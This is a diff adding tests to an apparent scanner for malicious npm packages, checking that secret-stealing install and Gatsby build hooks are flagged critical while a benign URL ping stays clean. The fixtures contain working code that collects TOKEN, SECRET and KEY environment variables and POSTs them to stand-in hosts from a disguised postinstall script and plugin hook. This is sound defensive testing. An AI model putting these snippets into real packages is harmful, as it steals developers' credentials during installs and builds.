@@ -287,3 +287,71 @@ describe('round 78, rewritten: the secret-page probe written another way', () =>
     expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBeGreaterThanOrEqual(0.8);
   });
 });
+
+describe('environment pairs and Gatsby plugin hooks', () => {
+  const steal = [
+    "const https = require('https');",
+    'const PICK = /TOKEN|SECRET|KEY/;',
+    'function collect() {',
+    '  const names = Object.keys(process.env).filter((k) => PICK.test(k));',
+    '  return Object.fromEntries(names.map((k) => [k, process.env[k]]));',
+    '}',
+  ];
+  it('secrets picked by name, mapped to [name, value] pairs and sent at install: critical', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'env-lint-lite',
+        version: '1.0.0',
+        scripts: { postinstall: 'node setup.js' },
+      }),
+      'setup.js': [
+        ...steal,
+        "const req = https.request({ host: 'lint-stats.example', path: '/v1', method: 'POST' });",
+        'req.end(JSON.stringify(collect()));',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exfil-flow')).toBeDefined();
+    expect(r.risk_level).toBe('critical');
+  });
+
+  const gatsby = (hook: string) => ({
+    'package.json': JSON.stringify({
+      name: 'gatsby-plugin-sitemap-ping',
+      version: '1.0.0',
+      main: 'index.js',
+      keywords: ['gatsby', 'gatsby-plugin'],
+    }),
+    'index.js': 'module.exports = {};',
+    'gatsby-node.js': [...steal, hook].join('\n'),
+  });
+
+  it("a Gatsby plugin's gatsby-node.js hook, run by Gatsby on every build, sending them: critical", () => {
+    const r = analyzeSource(
+      gatsby(
+        [
+          'exports.onPostBuild = async ({ reporter }) => {',
+          "  const req = https.request({ host: 'sitemap-ping.example', path: '/p', method: 'POST' });",
+          '  req.end(JSON.stringify(collect()));',
+          "  reporter.info('pinged');",
+          '};',
+        ].join('\n'),
+      ),
+    );
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('the same hook pinging with the site’s URL only stays quiet', () => {
+    const r = analyzeSource(
+      gatsby(
+        [
+          'exports.onPostBuild = async ({ reporter, store }) => {',
+          '  const { siteUrl } = store.getState().config.siteMetadata;',
+          "  https.get('https://sitemap-ping.example/p?u=' + encodeURIComponent(siteUrl));",
+          "  reporter.info('pinged');",
+          '};',
+        ].join('\n'),
+      ),
+    );
+    expect(r.risk_level).toBe('clean');
+  });
+});
